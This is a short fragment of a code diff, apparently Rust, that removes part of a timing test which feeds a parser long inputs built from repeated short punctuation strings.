-            "+a,|",
-            "@(,",
-            "-,",
-            "- ,",
-            ",\u{feff}",
-            "=;\"\"",
-        ] {
-            time(&piece.repeat((1 << 20) / piece.len()));
-        }
     }
 }
